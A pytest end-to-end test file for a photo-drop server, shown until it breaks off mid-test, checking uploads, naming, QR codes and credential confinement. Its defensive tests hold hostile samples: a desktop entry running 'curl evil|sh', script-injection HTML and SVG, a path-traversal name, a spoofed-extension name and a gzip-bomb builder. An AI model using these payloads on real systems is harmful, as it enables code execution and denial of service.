"""`couchlite receive` end to end: the command is started with `--json --port 0`, the URL it prints is
read back, photos are pushed into it the way each sender does (the replicator-like client of
../replicator.py, Couchbase Lite 1.x's multipart requests of protocol.md §1c, PouchDB's inline base64
`_bulk_docs` from the recorded transcript), and then every file in `--out` is checked byte for byte, with
its name and mtime, and nothing else may be there."""

from __future__ import annotations

import json
import os
import random
import subprocess
import threading
import time
import unicodedata
import urllib.parse

import pytest
import requests

from receive_support import (Receiver, b64, check_folder, inline_doc, photo, rev_of, sha1_digest,
                             wait_for_files)
from processes import printed_instructions, process_fixture
from replicator import Endpoint, Replicator

TRANSCRIPTS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "transcripts")


@pytest.fixture
def receivers(request):
    """`receivers(*flags)` makes a Receiver (not started) with its own dirs; all are stopped afterwards."""
    binary = os.environ["COUCHLITE_BIN"]

    def make(root: str, index: int, *flags: str, name: str | None = None) -> Receiver:
        return Receiver(binary, root, *flags, name=name or f"receiver{index}")

    yield from process_fixture(request, "couchlite-receive-", make)


def bulk(receiver: Receiver, docs: list[dict], session: requests.Session | None = None) -> list:
    s = session or receiver.session()
    r = s.post(f"{receiver.base}/{receiver.db}/_bulk_docs", json={"docs": docs, "new_edits": False})
    assert r.status_code == 201, r.text
    return r.json()


# --- senders ---------------------------------------------------------------------------------

def test_replicator_push_lands_in_folder(servers, receivers):
    rng = random.Random(1)
    source = servers("source")
    src = requests.Session()
    src.auth = ("admin", "pass")
    assert src.put(f"http://127.0.0.1:{source.port}/photos").status_code == 201
    beach = photo("jpg", 300_000, rng)
    clip = photo("mov", 50_000, rng)
    sunset = photo("heic", 4_000, rng)
    small_png, small_gif = photo("png", 800, rng), photo("gif", 900, rng)
    docs = [
        inline_doc("beach", {"IMG_0001.JPG": ("image/jpeg", beach)}, taken="2024-06-01T10:00:00Z"),
        inline_doc("clip", {"movie": ("application/octet-stream", clip)}, mtime=1700000000),
        inline_doc("sunset", {"sunset.heic": ("image/heic", sunset)}, date=1700000000123),
        inline_doc("two", {"a.png": ("image/png", small_png), "b.gif": ("image/gif", small_gif)}),
        {"_id": "no-photo", "_rev": rev_of("no-photo"), "_revisions": {"start": 1, "ids": [rev_of("no-photo")[2:]]}},
    ]
    r = src.post(f"http://127.0.0.1:{source.port}/photos/_bulk_docs", json={"docs": docs, "new_edits": False})
    assert r.status_code == 201, r.text

    receiver = receivers()
    started = time.time()
    info = receiver.start()
    assert set(info) == {"url", "user", "expires", "db", "out", "browser", "code", "signin_url", "qr_url", "app_url"}
    assert info["db"] == "photodrop" and info["out"] == receiver.out
    assert info["url"].startswith("http://" + info["user"] + ":")
    password = urllib.parse.unquote(receiver.parts.password)
    assert len(password) >= 32  # 128 bits in hex

    stats = Replicator(Endpoint(source.url, "photos"), Endpoint(receiver.server_url, receiver.db)).run()
    assert stats.completed and stats.multipart_puts >= 1
    check_folder(receiver.out, {
        "IMG_0001.JPG": (beach, 1717236000.0),
        "clip.mov": (clip, 1700000000.0),
        "sunset.heic": (sunset, 1700000000.123),
        "a.png": (small_png, None),
        "b.gif": (small_gif, None),
    }, started, time.time())
    assert receiver.stop() == 0
    assert "Saved 5 photos" in receiver.log_text()


def cbl_multipart(doc: dict, name: str, data: bytes, java: bool) -> tuple[str, bytes]:
    """A Couchbase Lite 1.x multipart PUT body (protocol.md §1c): iOS starts with CRLF and puts
    `Content-Length` first in every part; the Java client sends an unquoted filename and a charset."""
    boundary = "5C0D7E2E-1D0B-4F6A-9B8C-3A2F1E0D9C8B"
    body = json.dumps(doc).encode()
    json_type = "application/json; charset=utf-8" if java else "application/json"
    filename = f"filename={name}" if java else f'filename="{name}"'
    out = b"\r\n--" + boundary.encode() + b"\r\n"
    out += f"Content-Length: {len(body)}\r\nContent-Type: {json_type}\r\n\r\n".encode() + body
    out += b"\r\n--" + boundary.encode() + b"\r\n"
    out += (f"Content-Length: {len(data)}\r\nContent-Disposition: attachment; {filename}\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + data
    out += b"\r\n--" + boundary.encode() + b"--"
    return f"multipart/related; boundary={boundary}", out


def test_couchbase_lite_push_lands_in_folder(receivers):
    """PhotoDrop's sender: docs `{}` with attachment `photo` (application/octet-stream, `sha1-` digest), no
    `GET /db` before `_revs_diff`, multipart PUT for photos of 2 KiB and more (iOS and Java framing), inline
    base64 `_bulk_docs` below that, the JSON PUT of the 415 fallback, checkpoint `{"lastSequence":…}`."""
    rng = random.Random(2)
    receiver = receivers()
    started = time.time()
    receiver.start()
    s = receiver.session()
    db = f"{receiver.base}/{receiver.db}"
    ids = ["8C2F64E1-93D4-4C57-A1B2-5E2D7C1F0A01", "8C2F64E1-93D4-4C57-A1B2-5E2D7C1F0A02",
           "8C2F64E1-93D4-4C57-A1B2-5E2D7C1F0A03", "8C2F64E1-93D4-4C57-A1B2-5E2D7C1F0A04"]
    photos = [photo("jpg", 120_000, rng), photo("heic", 60_000, rng), photo("png", 1_500, rng),
              photo("jpg", 5_000, rng)]
    revs = {i: rev_of(i) for i in ids}
    r = s.post(f"{db}/_revs_diff", json={i: [revs[i]] for i in ids})
    assert r.status_code == 200 and set(r.json()) == set(ids), r.text

    def doc(i: int, data: bytes, follows: bool) -> dict:
        att = {"content_type": "application/octet-stream", "digest": sha1_digest(data), "length": len(data),
               "revpos": 1}
        att.update({"follows": True} if follows else {"data": b64(data)})
        rev = revs[ids[i]]
        return {"_id": ids[i], "_rev": rev, "_revisions": {"start": 1, "ids": [rev[2:]]},
                "_attachments": {"photo": att}}

    for i, java in ((0, False), (1, True)):
        ctype, body = cbl_multipart(doc(i, photos[i], True), "photo", photos[i], java)
        r = s.put(f"{db}/{ids[i]}?new_edits=false", data=body, headers={"Content-Type": ctype})
        assert r.status_code in (200, 201), r.text
    r = s.post(f"{db}/_bulk_docs", json={"docs": [doc(2, photos[2], False)], "new_edits": False})
    assert r.status_code == 201 and r.json() == [], r.text
    r = s.put(f"{db}/{ids[3]}?new_edits=false", json=doc(3, photos[3], False))   # the 415 fallback's shape
    assert r.status_code in (200, 201), r.text
    r = s.put(f"{db}/_local/3f1c0a2b9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a", json={"lastSequence": "4"})
    assert r.status_code == 201, r.text
    check_folder(receiver.out, {f"{ids[i]}.{ext}": (photos[i], None)
                                for i, ext in enumerate(["jpg", "heic", "png", "jpg"])}, started, time.time())


def transcript_requests(name: str) -> list[dict]:
    with open(os.path.join(TRANSCRIPTS, name)) as f:
        return [json.loads(line) for line in f]


def test_pouchdb_push_lands_in_folder(receivers):
    """PouchDB 9's push of six photos, replayed from its recorded conversation (inline base64 attachments in
    `_bulk_docs`, checkpoint in `_local`), against the printed URL with Basic auth from it."""
    receiver = receivers()
    started = time.time()
    receiver.start()
    s = receiver.session()
    recorded_db = "/pouch_push-photos"
    docs = []
    for entry in transcript_requests("pouchdb-9.0.0-push-photos.jsonl"):
        path = entry["path"]
        if entry["req_headers"].get("User-Agent", "").startswith("Python") or not path.startswith(recorded_db):
            continue  # the harness's own setup and the later pull are not part of the push
        if entry["method"] == "GET" and "/_local/" not in path and path.rstrip("/") != recorded_db:
            break     # the push ends where the harness starts reading back
        body = entry["req_body"]["text"].encode()
        if path.endswith("/_bulk_docs"):
            docs += json.loads(body)["docs"]
        url = receiver.base + "/" + receiver.db + path[len(recorded_db):]
        headers = {"Content-Type": "application/json"} if body else {}
        r = s.request(entry["method"], url, data=body or None, headers=headers)
        assert r.status_code == entry["status"], f"{entry['method']} {path}: {r.status_code} {r.text[:200]}"
    assert len(docs) == 6
    names = wait_for_files(receiver.out, 6)
    assert names == sorted(["photo.jpg"] + [f"photo ({n}).jpg" for n in range(2, 7)])
    by_bytes = {}
    for d in docs:
        data = __import__("base64").b64decode(d["_attachments"]["photo.jpg"]["data"])
        taken = d["taken_at"].replace("Z", "+00:00")
        by_bytes[data] = __import__("datetime").datetime.fromisoformat(taken).timestamp()
    expected = {}
    for name in names:
        with open(os.path.join(receiver.out, name), "rb") as f:
            data = f.read()
        assert data in by_bytes, f"{name} holds bytes no document sent"
        expected[name] = (data, by_bytes.pop(data))
    check_folder(receiver.out, expected, started, time.time())


def test_pouchdb_page_from_another_origin_can_push(receivers):
    """A PouchDB page served from elsewhere: the preflight is answered and the push carries CORS headers."""
    origin = "http://photos.example:8080"
    receiver = receivers("--cors-origins", origin)
    receiver.start()
    db = f"{receiver.base}/{receiver.db}"
    pre = requests.options(f"{db}/_bulk_docs", headers={
        "Origin": origin, "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,content-type"})
    assert pre.status_code in (200, 204) and pre.headers.get("Access-Control-Allow-Origin") == origin
    data = photo("webp", 3_000, random.Random(9))
    r = receiver.session().post(f"{db}/_bulk_docs", headers={"Origin": origin},
                                json={"docs": [inline_doc("web", {"photo": ("image/webp", data)})],
                                      "new_edits": False})
    assert r.status_code == 201 and r.headers.get("Access-Control-Allow-Origin") == origin
    check_folder(receiver.out, {"web.webp": (data, None)}, time.time() - 60, time.time())


def test_gzip_encoded_attachments_are_saved_decoded(receivers):
    """The CouchDB replicator sends compressible attachments gzip-encoded (`encoding`, `encoded_length`,
    `Content-Encoding: gzip` part): the folder gets the decoded bytes, named by what they decode to."""
    import gzip
    import hashlib

    from replicator import Attachment, build_multipart_related
    rng = random.Random(10)
    receiver = receivers()
    started = time.time()
    receiver.start()
    text = b"field notes, " * 2000
    shot = photo("jpg", 40_000, rng)
    atts, stubs = [], {}
    for name, ctype, data in (("notes.txt", "text/plain", text), ("photo", "application/octet-stream", shot)):
        encoded = gzip.compress(data)
        info = {"content_type": ctype, "revpos": 1, "digest": "md5-" + b64(hashlib.md5(encoded).digest()),
                "length": len(data), "encoding": "gzip", "encoded_length": len(encoded), "follows": True}
        stubs[name] = info
        atts.append(Attachment(name, info, encoded))
    rev = rev_of("zipped")
    doc = {"_id": "zipped", "_rev": rev, "_revisions": {"start": 1, "ids": [rev[2:]]}, "_attachments": stubs}
    ctype, body = build_multipart_related(doc, atts)
    r = receiver.session().put(f"{receiver.base}/{receiver.db}/zipped?new_edits=false", data=body,
                               headers={"Content-Type": ctype})
    assert r.status_code in (200, 201), r.text
    check_folder(receiver.out, {"zipped.jpg": (shot, None)}, started, time.time())
    assert receiver.stop() == 0
    assert "zipped/notes.txt: not a photo or a video" in receiver.log_text()


def gzip_multipart(doc_id: str, name: str, encoded: bytes, length: int | None) -> tuple[str, bytes]:
    import hashlib

    from replicator import Attachment, build_multipart_related
    info = {"content_type": "image/jpeg", "revpos": 1, "digest": "md5-" + b64(hashlib.md5(encoded).digest()),
            "encoding": "gzip", "encoded_length": len(encoded), "follows": True}
    if length is not None:
        info["length"] = length
    rev = rev_of(doc_id)
    doc = {"_id": doc_id, "_rev": rev, "_revisions": {"start": 1, "ids": [rev[2:]]}, "_attachments": {name: info}}
    return build_multipart_related(doc, [Attachment(name, info, encoded)])


def gzip_bomb(decoded: int, head: bytes = b"\xff\xd8\xff\xe0", noise_per_mib: int = 0) -> bytes:
    """`head` then zeros, `decoded` bytes in all, gzipped (1 GiB makes about 1 MB); with `noise_per_mib` random
    bytes at the start of each MiB it compresses less (20 KiB: about fiftyfold)."""
    import zlib
    rng = random.Random(11)
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [z.compress(head)]
    zeros = bytes(1 << 20)
    left = decoded - len(head)
    while left > 0:
        piece = rng.randbytes(noise_per_mib) + zeros[noise_per_mib:]
        out.append(z.compress(piece[:min(left, len(piece))]))
        left -= min(left, len(piece))
    out.append(z.flush())
    return b"".join(out)


def test_gzip_bomb_attachment_is_not_inflated_into_the_folder(receivers):
    """A 1 MB upload marked `"encoding": "gzip"` that inflates to 1 GiB (a JPEG header, then zeros) is refused at
    ingest (400): with a `length` that lies, with an encoding other than gzip, and declared honestly too, since it
    inflates past 64 times its size. One that stays under that ratio (64 MiB at about fiftyfold) is stored but not
    exported (photos do not compress 50:1); the receiver's memory stays bounded (the exporter once inflated a
    megabyte at a time into one array: +1 GiB RSS, and wrote the gigabyte)."""
    receiver = receivers()
    receiver.start()
    size = (1 << 30) + (1 << 20)
    bomb = gzip_bomb(size)
    assert len(bomb) < 2 << 20
    s = receiver.session()
    url = f"{receiver.base}/{receiver.db}"
    ctype, body = gzip_multipart("liar", "photo", bomb, 1000)
    r = s.put(f"{url}/liar?new_edits=false", data=body, headers={"Content-Type": ctype})
    assert r.status_code == 400 and r.json()["error"] == "bad_request", r.text
    ctype, body = gzip_multipart("weird", "photo", bomb, size)
    ctype_other = ctype
    body_other = body.replace(b'"encoding":"gzip"', b'"encoding":"deflate"').replace(
        b'"encoding": "gzip"', b'"encoding": "deflate"')
    r = s.put(f"{url}/weird?new_edits=false", data=body_other, headers={"Content-Type": ctype_other})
    assert r.status_code == 400 and r.json()["error"] == "bad_request", r.text
    ctype, body = gzip_multipart("honest", "photo", bomb, size)
    r = s.put(f"{url}/honest?new_edits=false", data=body, headers={"Content-Type": ctype})
    assert r.status_code == 400 and "times its gzip size" in r.json()["reason"], r.text
    within = 64 << 20
    dense = gzip_bomb(within, noise_per_mib=20 * 1024)
    assert 40 * len(dense) < within < 64 * len(dense)
    ctype, body = gzip_multipart("dense", "photo", dense, within)
    r = s.put(f"{url}/dense?new_edits=false", data=body, headers={"Content-Type": ctype})
    assert r.status_code in (200, 201), r.text
    small = gzip_bomb(50_000)
    ctype, body = gzip_multipart("fine", "photo", small, 50_000)
    r = s.put(f"{url}/fine?new_edits=false", data=body, headers={"Content-Type": ctype})
    assert r.status_code in (200, 201), r.text
    wait_for_files(receiver.out, 1)
    time.sleep(0.5)
    with open(f"/proc/{receiver.proc.pid}/status") as f:
        peak_kib = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
    names = os.listdir(receiver.out)
    assert names == ["fine.jpg"], names
    assert os.path.getsize(os.path.join(receiver.out, "fine.jpg")) == 50_000
    assert peak_kib < 300 * 1024, f"peak RSS {peak_kib} KiB"
    assert receiver.stop() == 0
    log = receiver.log_text()
    assert f"dense/photo: gzip-encoded, {len(dense)} bytes declaring {within}: a bomb" in log, log[-2000:]


def test_attachments_that_are_not_photos_stay_out_of_the_folder(receivers):
    """`.desktop`, `.html`, `.svg`, `.exe`, `autorun.inf` (and an HTML page named like a photo) were written into
    `--out` next to the user's pictures; only photos and videos recognised by their bytes are, the rest stays in
    the database and is listed in the summary."""
    rng = random.Random(6)
    receiver = receivers()
    started = time.time()
    receiver.start()
    shot = photo("jpg", 20_000, rng)
    hostile = {
        "run.desktop": ("application/x-desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n"),
        "page.html": ("text/html", b"<html><script>alert(1)</script></html>"),
        "pic.svg": ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        "setup.exe": ("application/octet-stream", b"MZ\x90\x00" + bytes(200)),
        "autorun.inf": ("text/plain", b"[autorun]\nopen=setup.exe\n"),
        "fake.jpg": ("image/jpeg", b"<html>not a jpeg</html>"),
    }
    docs = [inline_doc("mixed", {"IMG_1.JPG": ("image/jpeg", shot), **hostile})]
    bulk(receiver, docs)
    check_folder(receiver.out, {"IMG_1.JPG": (shot, None)}, started, time.time())
    assert receiver.stop() == 0
    log = receiver.log_text()
    assert "Kept in the database, not saved to the folder: 6 attachments" in log, log[-2000:]
    for name in hostile:
        assert f"mixed/{name}: not a photo or a video" in log


def test_password_is_never_written_to_disk(receivers):
    receiver = receivers("--log-level", "debug")
    receiver.start()
    assert bulk(receiver, [inline_doc("p", {"p.jpg": ("image/jpeg", photo("jpg", 999, random.Random(12)))})]) == []
    assert receiver.session().post(f"{receiver.base}/_session",
                                   data={"name": receiver.auth[0], "password": receiver.auth[1]}).status_code == 200
    wait_for_files(receiver.out, 1)
    assert receiver.stop() == 0
    password = receiver.auth[1].encode()
    for folder, _, files in os.walk(receiver.root):
        for name in files:
            with open(os.path.join(folder, name), "rb") as f:
                assert password not in f.read(), f"the password is in {name}"


def test_an_admin_upload_with_curl_is_exported_too(receivers):
    receiver = receivers()
    started = time.time()
    receiver.start()
    admin, db = receiver.admin(), f"{receiver.base}/{receiver.db}"
    rev = admin.put(f"{db}/holiday", json={"taken": "2023-08-15T18:30:00Z"}).json()["rev"]
    data = photo("png", 7_000, random.Random(13))
    r = admin.put(f"{db}/holiday/beach%20day.png?rev={rev}", data=data, headers={"Content-Type": "image/png"})
    assert r.status_code == 201, r.text
    check_folder(receiver.out, {"beach day.png": (data, 1692124200.0)}, started, time.time())


# --- names -----------------------------------------------------------------------------------

def test_hostile_and_awkward_names(receivers):
    rng = random.Random(3)
    receiver = receivers()
    started = time.time()
    receiver.start()
    jpg = lambda: photo("jpg", 3_000, rng)  # noqa: E731
    same = jpg()
    cases = [  # (doc id, attachment name, content type, bytes, expected file name or None: not written)
        ("d1", "../../etc/passwd", "image/jpeg", jpg(), "etc_passwd.jpg"),
        ("d2", "a/b.jpg", "image/jpeg", jpg(), "a_b.jpg"),
        ("d3", ".hidden", "application/octet-stream", photo("png", 2_000, rng), "hidden.png"),
        ("d4", "bad\u0001na\tme\u001b[31m\u007f.jpg", "image/jpeg", jpg(), "badname[31m.jpg"),
        ("d5", "x" * 1000 + ".jpg", "image/jpeg", jpg(), "x" * 196 + ".jpg"),
        ("d6", "photo.jpg", "image/jpeg", jpg(), "photo.jpg"),
        ("d7", "photo.jpg", "image/jpeg", jpg(), "photo (2).jpg"),
        ("d8", "copy one.jpg", "image/jpeg", same, "copy one.jpg"),
        ("d9", "copy two.jpg", "image/jpeg", same, None),
        ("d10", "my holiday \U0001f3d6\ufe0f at the cafe\u0301.jpg", "image/jpeg", jpg(),
         "my holiday \U0001f3d6\ufe0f at the caf\u00e9.jpg"),
        # Bytes that are no photo or video stay in the database, whatever the name says.
        ("nothing known", "photo", "application/octet-stream", photo("raw", 2_500, rng), None),
        ("-rf *", "attachment", "image/jpeg", jpg(), "rf *.jpg"),
        ("d13", "evil\u202egpj.exe", "application/octet-stream", photo("raw", 100, rng), None),
        ("d14", "...", "image/gif", photo("gif", 100, rng), "d14.gif"),
    ]
    for doc_id, name, ctype, data, _ in cases:   # one request each: the export order is the write order
        assert bulk(receiver, [inline_doc(doc_id, {name: (ctype, data)})]) == []
    expected = {want: (data, None) for _, _, _, data, want in cases if want is not None}
    check_folder(receiver.out, expected, started, time.time())
    assert all(unicodedata.is_normalized("NFC", n) for n in os.listdir(receiver.out))
    # The same bytes under a new name, after a restart: still not written again.
    receiver.stop()
    receiver.start()
    assert bulk(receiver, [inline_doc("d15", {"again.jpg": ("image/jpeg", same)})]) == []
    time.sleep(1.0)
    check_folder(receiver.out, expected, started, time.time())


# --- the QR code -----------------------------------------------------------------------------

def zbar(png_path: str) -> str:
    out = subprocess.run(["zbarimg", "--quiet", "--raw", png_path], capture_output=True, timeout=30)
    assert out.returncode == 0, out.stderr.decode()
    return out.stdout.decode().strip()


def write_png(path: str, rows: list[list[bool]], scale: int = 6) -> None:
    """A grayscale PNG of `rows` (True = dark), written by hand (zlib + CRC), for zbarimg."""
    import struct
    import zlib
    width, height = len(rows[0]) * scale, len(rows) * scale
    raw = b""
    for row in rows:
        line = b"\x00" + b"".join((b"\x00" if dark else b"\xff") * scale for dark in row)
        raw += line * scale

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    with open(path, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
                + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def terminal_rows(lines: list[str]) -> list[list[bool]]:
    """Modules of a half-block rendering: each character is an upper and a lower module."""
    top = {" ": False, "\u2580": True, "\u2584": False, "\u2588": True}
    bottom = {" ": False, "\u2580": False, "\u2584": True, "\u2588": True}
    rows = []
    for line in lines:
        rows.append([top[c] for c in line])
        rows.append([bottom[c] for c in line])
    return rows


def test_qr_png_holds_the_printed_url(receivers, tmp_path):
    receiver = receivers("--qr-png", str(tmp_path / "code.png"))
    info = receiver.start()
    assert zbar(str(tmp_path / "code.png")) == info["signin_url"] == info["qr_url"]
    apps = receivers("--qr", "app", "--qr-png", str(tmp_path / "apps.png"))
    info = apps.start()
    assert zbar(str(tmp_path / "apps.png")) == info["url"] == info["qr_url"]


def test_terminal_says_what_plain_http_trades_away(tmp_path):
    lines = printed_instructions(
        [os.environ["COUCHLITE_BIN"], "receive", "--port", "0", "--data-dir", str(tmp_path / "data"),
         "--out", str(tmp_path / "out"), "--admin", "admin:pass"])
    text = "\n".join(lines)
    assert "Plain HTTP (the default, so a phone opens the page with no certificate warning)" in text
    assert "sees the photos sent" in text and "--tls auto" in text
    assert "The code signs in one phone" in text
    apps = next(l.strip() for l in lines if l.strip().startswith("http://drop-"))
    assert apps.endswith("/photodrop")


def test_terminal_qr_code_holds_the_printed_url(tmp_path):
    lines = printed_instructions(
        [os.environ["COUCHLITE_BIN"], "receive", "--port", "0", "--data-dir", str(tmp_path / "data"),
         "--out", str(tmp_path / "out"), "--admin", "admin:pass"])
    url = next(l.strip() for l in lines if l.strip().startswith("http://"))
    block = [l for l in lines if l and set(l) <= set(" \u2580\u2584\u2588") and len(l) > 20]
    assert len(block) >= 12 and len({len(l) for l in block}) == 1, "the code is not a rectangle"
    assert "\x1b" not in "".join(lines), "no colour codes when stdout is not a terminal"
    rows = terminal_rows(block)
    assert not any(rows[0]) and not any(rows[-1]) and not any(r[0] or r[-1] for r in rows), "no quiet zone"
    write_png(str(tmp_path / "terminal.png"), rows)
    assert zbar(str(tmp_path / "terminal.png")) == url


# --- the credentials -------------------------------------------------------------------------

def test_drop_credentials_reach_only_what_a_push_needs(receivers):
    receiver = receivers()
    receiver.start()
    admin, s = receiver.admin(), receiver.session()
    base, db = receiver.base, receiver.db
    assert admin.put(f"{base}/other").status_code == 201
    assert admin.put(f"{base}/other/secret", json={"x": 1}).status_code == 201
    assert bulk(receiver, [inline_doc("mine", {"p.jpg": ("image/jpeg", photo("jpg", 100, random.Random(4)))})]) == []

    def status(method, path, **kw):
        return s.request(method, base + path, **kw).status_code

    # What a push replicator needs.
    assert status("GET", "/") == 200
    assert status("GET", f"/{db}") == 200 and status("GET", f"/{db}/") == 200
    assert status("PUT", f"/{db}") == 412    # create_target: it exists (a 401/403 would end the replication)
    assert status("POST", f"/{db}/_revs_diff", json={"x": ["1-a"]}) == 200
    assert status("POST", f"/{db}/_ensure_full_commit", json={}) == 201
    assert status("PUT", f"/{db}/_local/checkpoint", json={"last_seq": "1"}) == 201
    assert status("GET", f"/{db}/_local/checkpoint") == 200
    me = s.get(f"{base}/_session").json()["userCtx"]
    assert me == {"name": receiver.info["user"], "roles": []}
    # Nothing else: no other database, no new one, no server-wide endpoint, no reading back.
    forbidden = [
        ("GET", "/other"), ("GET", "/other/secret"), ("PUT", "/other/new"), ("PUT", "/created-by-drop"),
        ("DELETE", f"/{db}"), ("GET", "/_all_dbs"), ("GET", "/_uuids"), ("GET", f"/{db}/_security"),
        ("PUT", f"/{db}/_security"), ("PUT", f"/{db}/_design/evil"), ("PUT", f"/{db}/_design%2Fevil"),
        ("GET", f"/{db}/mine"), ("GET", f"/{db}/mine/p.jpg"), ("GET", f"/{db}/_all_docs"),
        ("GET", f"/{db}/_changes"), ("POST", f"/{db}/_bulk_get"), ("PUT", f"/{db}/mine/other.jpg"),
        ("POST", f"/{db}"), ("POST", f"/{db}/_compact"), ("PUT", f"/{db}/_revs_limit"),
        ("GET", f"/{db}/_local/couchlite-receive"), ("PUT", f"/{db}/_local/couchlite-receive"),
        ("GET", "/_users/_all_docs"), ("GET", "/_active_tasks"),
    ]
    for method, path in forbidden:
        kw = {"json": {}} if method in ("PUT", "POST") else {}
        got = status(method, path, **kw)
        assert got in (401, 403), f"{method} {path} answered {got}"
    assert admin.get(f"{base}/created-by-drop").status_code == 404
    # Inside _bulk_docs too: no design documents, no couchlite _local documents.
    answer = bulk(receiver, [
        {"_id": "_design/evil", "_rev": "1-a", "_revisions": {"start": 1, "ids": ["a"]}},
        {"_id": "_local/couchlite-receive", "seq": 0, "files": {}}])
    assert [item.get("error") for item in answer] == ["forbidden", "forbidden"], answer
    assert admin.get(f"{base}/{db}/_design/evil").status_code == 404
    # A cookie session of the drop account is confined the same way.
    c = requests.Session()
    r = c.post(f"{base}/_session", data={"name": receiver.auth[0], "password": receiver.auth[1]})
    assert r.status_code == 200 and "AuthSession" in c.cookies
    assert c.get(f"{base}/{db}").status_code == 200 and c.get(f"{base}/other").status_code == 403


def test_drop_credentials_open_the_gallery_as_a_send_only_page(receivers):
    """A phone without a replicator app signs in to the gallery with the one-time credentials and sends
    photos from the browser; it still reads nothing back, and cannot upload anywhere else."""
    receiver = receivers()
    info = receiver.start()
    admin, base, db = receiver.admin(), receiver.base, receiver.db
    assert info["browser"] == f"{base}/_photos/"
    assert admin.put(f"{base}/other").status_code == 201
    c = requests.Session()
    r = c.post(f"{base}/_session", json={"name": receiver.auth[0], "password": receiver.auth[1]})
    assert r.status_code == 200 and "AuthSession" in c.cookies
    assert c.get(f"{base}/_photos/").status_code == 200
    assert c.get(f"{base}/_photos/app.js").status_code == 200
    dbs = c.get(f"{base}/_photos/api/dbs").json()
    assert dbs["databases"] == [] and dbs["drop"] == db
    data = photo("jpg", 3000, random.Random(11))
    same_origin = {"Origin": base, "Content-Type": "application/octet-stream"}
    r = c.post(f"{base}/_photos/api/db/{db}/upload", params={"name": "from the browser.jpg", "type": "image/jpeg",
               "modified": "1700000000000"}, data=data, headers=same_origin)
    assert r.status_code == 201, r.text
    doc_id = r.json()["id"]
    assert wait_for_files(receiver.out, 1) == ["from the browser.jpg"]
    with open(os.path.join(receiver.out, "from the browser.jpg"), "rb") as f:
        assert f.read() == data
    # Nothing of the album can be read back, nothing deleted, no other album written.
    closed = [
        ("GET", f"/_photos/api/db/{db}/photos"), ("GET", f"/_photos/api/db/{db}/photo/{doc_id}"),
        ("GET", f"/_photos/api/db/{db}/thumb/{doc_id}/from the browser.jpg"),
        ("GET", f"/_photos/api/db/{db}/download/{doc_id}/from the browser.jpg"),
        ("DELETE", f"/_photos/api/db/{db}/doc/{doc_id}"), ("POST", "/_photos/api/db/other/upload"),
        ("GET", "/_photos/api/db/other/photos"), ("GET", f"/_photos/api/db/{db}/upload"),
    ]
    for method, path in closed:
        got = c.request(method, base + path, params={"name": "x.jpg"}, data=b"x", headers=same_origin).status_code
        assert got in (401, 403), f"{method} {path} answered {got}"
    assert admin.get(f"{base}/other/_all_docs").json()["rows"] == []
    # A signed-in person sees their albums as before.
    listing = admin.get(f"{base}/_photos/api/dbs").json()
    assert "drop" not in listing and db in listing["databases"]


def test_users_document_cannot_shadow_drop_account(receivers):
    receiver = receivers()
    receiver.start()
    admin, user = receiver.admin(), receiver.auth[0]
    doc = {"name": user, "password": "guessable", "type": "user", "roles": []}
    r = admin.put(f"{receiver.base}/_users/org.couchdb.user:{user}", json=doc)
    # Either `_users` refuses the server-held name, or the document is there and changes nothing.
    assert r.status_code in (201, 202, 403), r.text
    assert requests.get(f"{receiver.base}/{receiver.db}", auth=(user, "guessable")).status_code == 401
    assert receiver.session().get(f"{receiver.base}/{receiver.db}").status_code == 200


def test_drop_password_guessing_is_throttled(receivers):
    receiver = receivers()
    receiver.start()
    url, user = f"{receiver.base}/{receiver.db}", receiver.auth[0]
    times = []
    for attempt in range(10):
        started = time.monotonic()
        assert requests.get(url, auth=(user, f"wrong{attempt}")).status_code == 401
        times.append(time.monotonic() - started)
    # After 5 free failures each turn is spaced twice as far as the last (0.2, 0.4, 0.8, 1.6 s), counted
    # from the previous turn, so the 10th guess cannot start before 3 s after the 6th did, however long
    # each verification takes (without the throttle five guesses take about 5 x one PBKDF2, ~1.5 s).
    assert sum(times[5:]) >= 3.0, f"no slow-down after repeated failures: {times}"
    assert receiver.session().get(url).status_code == 200


def test_dns_rebinding_host_is_refused(receivers):
    receiver = receivers()
    receiver.start()
    port = receiver.parts.port
    r = requests.get(f"{receiver.base}/", headers={"Host": f"evil.example:{port}"})
    assert r.status_code == 400 and r.json()["error"] == "bad_request"
    r = receiver.session().get(f"{receiver.base}/{receiver.db}", headers={"Host": f"rebound.example:{port}"})
    assert r.status_code == 400
    assert requests.get(f"{receiver.base}/").status_code == 200


def test_credentials_expire_at_ttl_and_never_come_back(receivers):
    receiver = receivers("--ttl", "3s")
    receiver.start()
    s, url = receiver.session(), f"{receiver.base}/{receiver.db}"
    assert bulk(receiver, [inline_doc("early", {"early.jpg": ("image/jpeg", photo("jpg", 999, random.Random(5)))})]) == []
    receiver.wait_for_log("session ended (the credentials expired)", timeout=15)
    assert s.get(url).status_code == 401
    receiver.proc.wait(timeout=30)
    assert receiver.proc.returncode == 0
    assert os.listdir(receiver.out) == ["early.jpg"]
    old_user, old_password = receiver.auth
    # A new session on the same data: the old credentials are gone, and a `_users` document of the same
    # name does not make anyone a member of the drop database.
    receiver.start()
    url = f"{receiver.base}/{receiver.db}"
    assert requests.get(url, auth=(old_user, old_password)).status_code == 401
    doc = {"name": old_user, "password": "recreated", "type": "user", "roles": []}
    r = receiver.admin().put(f"{receiver.base}/_users/org.couchdb.user:{old_user}", json=doc)
    assert r.status_code in (201, 202), r.text   # another process: the old name is not reserved here
    assert requests.get(url, auth=(old_user, "recreated")).status_code == 403


def test_once_ends_when_the_push_is_complete(servers, receivers):
    rng = random.Random(6)
    source = servers("source")
    src = requests.Session()
    src.auth = ("admin", "pass")
    assert src.put(f"http://127.0.0.1:{source.port}/photos").status_code == 201
